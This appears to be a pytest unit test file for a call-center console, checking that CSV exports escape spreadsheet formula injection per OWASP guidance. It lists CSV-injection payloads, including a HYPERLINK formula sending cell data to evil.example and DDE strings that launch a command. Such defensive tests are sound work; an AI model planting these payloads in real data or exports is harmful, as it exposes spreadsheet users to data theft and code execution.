"""CSV exports never hand a spreadsheet a formula: OWASP's rule, with the payloads that beat naive checks."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session
from test_console_fixtures import BAD, GOOD, ConsoleEnv, make_env, seed_calls

from dialer.store.models.accounts import Account
from duncall.console.roles import Role
from foundation.spreadsheet import safe_cell

pytestmark = pytest.mark.unit

# Each starts a formula in Excel, LibreOffice or Google Sheets; the old check let those whose
# second character is a digit through, and did not know tab or carriage return at all.
PAYLOADS = (
    '=1+HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
)
# A spreadsheet reads a cell as a formula when its first character is one of these.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_payload_is_escaped(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell == "'" + payload
    assert not cell.startswith(FORMULA_START)


def test_plain_text_numbers_and_joined_lists() -> None:
    assert safe_cell("Jordan Avery") == "Jordan Avery"
    assert safe_cell(-12.5) == "-12.5"  # a number the program computed stays a number
    assert safe_cell(["=1+1", "b"]) == "'=1+1;b"
    assert safe_cell(None) == ""


@pytest.fixture
def env(tmp_path: Path) -> Iterator[ConsoleEnv]:
    env = make_env(tmp_path)
    seed_calls(env.engine)
    yield env
    env.close()


def test_exports_escape_payloads_in_names_and_comments(env: ConsoleEnv) -> None:
    with Session(env.engine) as db, db.begin():
        db.execute(update(Account).where(Account.account_id == "A1").values(first_name=PAYLOADS[0]))
        db.execute(update(Account).where(Account.account_id == "A2").values(first_name=PAYLOADS[3]))
    supervisor = env.login(Role.SUPERVISOR)
    rows = list(csv.DictReader(io.StringIO(supervisor.get("/api/calls/export.csv").text)))
    names = {r["attempt_id"]: r["debtor"] for r in rows}
    assert names[GOOD] == "'" + PAYLOADS[0] + " Avery"
    assert names[BAD] == "'" + PAYLOADS[3] + " Morgan"
    qa = env.login(Role.QA)
    form = qa.get("/api/calls/qa-form").json()
    answers = {q["id"]: "yes" for s in form["sections"] for q in s["questions"]}
    for attempt, payload in ((GOOD, PAYLOADS[2]), (BAD, PAYLOADS[6])):
        saved = qa.put(f"/api/calls/{attempt}/scores/mine", json={"answers": answers, "comment": payload})
        assert saved.status_code == 200, saved.text
    scores = list(csv.DictReader(io.StringIO(qa.get("/api/calls/scores.csv").text)))
    comments = {r["attempt_id"]: r["comment"] for r in scores}
    assert comments == {GOOD: "'" + PAYLOADS[2], BAD: "'" + PAYLOADS[6]}
    for row in rows + scores:
        for value in row.values():
            assert not (value or "").startswith(FORMULA_START), row
